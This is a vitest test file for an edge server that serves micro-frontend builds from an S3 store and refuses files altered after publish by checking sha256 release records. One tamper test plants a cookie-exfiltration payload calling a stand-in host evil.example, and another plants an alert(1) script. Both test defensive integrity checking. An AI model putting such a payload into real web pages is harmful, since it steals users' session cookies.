import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { brotliDecompressSync } from 'node:zlib';
import { createS3Store, describeBuild } from '@omad/release/store';
import type { ArtifactStore } from '@omad/release/store';
import { startTestS3Server } from '@omad/release/store/s3-test-server';
import type { TestS3Server } from '@omad/release/store/s3-test-server';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Edge } from './edge';
import { createFixture, edgeOver, runtimeConfigOf } from './test-fixtures';
import type { Fixture } from './test-fixtures';

/** Big enough to be compressed. */
const REMOTE_SCRIPT = 'console.log("mf-cashier from the store");\n'.repeat(100);

let fixture: Fixture;
let server: TestS3Server;
let store: ArtifactStore;
let edge: Edge;
let lines: string[];

/** Publishes mf-cashier@2.0.0, built against contract 1.1.0, to the store. */
const publishToStore = async () => {
  const dir = join(fixture.root, 'build');
  await mkdir(join(dir, 'static/js'), { recursive: true });
  await writeFile(
    join(dir, 'mf-manifest.json'),
    JSON.stringify({
      name: 'mf_cashier',
      metaData: { omad: { app: 'mf-cashier', version: '2.0.0', contractVersion: '1.1.0' } },
    }),
  );
  await writeFile(join(dir, 'static/js/main.js'), REMOTE_SCRIPT);
  await store.publish('mf-cashier', '2.0.0', dir, {
    ...(await describeBuild(dir)),
    app: 'mf-cashier',
    version: '2.0.0',
    commit: null,
    publishedAt: '2026-11-23T10:00:00.000Z',
    publishedBy: 'tester',
    origin: 'release',
  });
};

beforeEach(async () => {
  fixture = await createFixture();
  server = await startTestS3Server();
  store = createS3Store(server.options);
  await publishToStore();
  await fixture.writeEnvironment('local', { 'mf-cashier': '2.0.0', 'mf-auth': '1.0.0' });
  edge = await edgeOver(fixture, { log: (line) => lines.push(line), store });
});
beforeEach(() => {
  lines = [];
});
afterEach(async () => {
  await server.stop();
  await fixture.cleanup();
});

describe('remote builds from an S3 store', () => {
  it('serves a published file from the store as immutable with CORS', async () => {
    const response = await edge.app.request('/remotes/mf-cashier/2.0.0/static/js/main.js');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/javascript; charset=utf-8');
    expect(response.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(response.headers.get('access-control-allow-origin')).toBe('*');
    expect(await response.text()).toBe(REMOTE_SCRIPT);
  });

  it('compresses it for a client that accepts brotli', async () => {
    const response = await edge.app.request('/remotes/mf-cashier/2.0.0/static/js/main.js', {
      headers: { 'Accept-Encoding': 'gzip, br' },
    });
    expect(response.headers.get('content-encoding')).toBe('br');
    expect(response.headers.get('vary')).toBe('Accept-Encoding');
    const body = new Uint8Array(await response.arrayBuffer());
    expect(brotliDecompressSync(body).toString()).toBe(REMOTE_SCRIPT);
  });

  it('answers 404, not cached, for what the store does not have', async () => {
    for (const path of [
      '/remotes/mf-cashier/2.0.0/static/js/missing.js',
      '/remotes/mf-cashier/9.9.9/mf-manifest.json',
      // On disk in artifactsDir, but the store is what counts.
      '/remotes/mf-cashier/1.0.0/remoteEntry.js',
      '/remotes/Not_An_App/2.0.0/mf-manifest.json',
      '/remotes/mf-cashier/2.0.0',
    ]) {
      const response = await edge.app.request(path);
      expect(response.status, path).toBe(404);
      expect(response.headers.get('cache-control'), path).toBe('no-cache');
    }
  });

  it('puts the contract version the store holds into the remote map', async () => {
    const response = await edge.app.request('/', { headers: { Accept: 'text/html' } });
    expect(runtimeConfigOf(await response.text())).toMatchObject({
      remotes: [
        { name: 'mf-cashier', version: '2.0.0', contractVersion: '1.1.0' },
        { name: 'mf-auth', version: '1.0.0', contractVersion: null },
      ],
    });
  });
});

describe('a file changed in the store after publish', () => {
  const KEY = 'omad/remotes/mf-cashier/2.0.0/static/js/main.js';

  it('is not served: an error, not cached, and a log line naming build and file', async () => {
    await server.putObject(KEY, 'fetch("https://evil.example/steal?" + document.cookie);');
    const response = await edge.app.request('/remotes/mf-cashier/2.0.0/static/js/main.js');
    expect(response.status).toBe(500);
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(await response.text()).not.toContain('evil.example');
    expect(lines).toEqual([
      'refused mf-cashier@2.0.0/static/js/main.js differs from the sha256 its publish recorded',
    ]);
  });

  it('nor is a file its record does not list', async () => {
    await server.putObject('omad/remotes/mf-cashier/2.0.0/static/js/extra.js', 'alert(1)');
    const response = await edge.app.request('/remotes/mf-cashier/2.0.0/static/js/extra.js');
    expect(response.status).toBe(500);
    expect(lines).toEqual([
      'refused mf-cashier@2.0.0/static/js/extra.js is not in its release record',
    ]);
  });

  it('leaves the manifest unread when it is the file changed', async () => {
    await server.putObject(
      'omad/remotes/mf-cashier/2.0.0/mf-manifest.json',
      JSON.stringify({
        metaData: { omad: { app: 'mf-cashier', version: '2.0.0', contractVersion: '9.0.0' } },
      }),
    );
    const response = await edge.app.request('/', { headers: { Accept: 'text/html' } });
    expect(runtimeConfigOf(await response.text())).toMatchObject({
      remotes: [{ name: 'mf-cashier', version: '2.0.0', contractVersion: null }, {}],
    });
  });
});
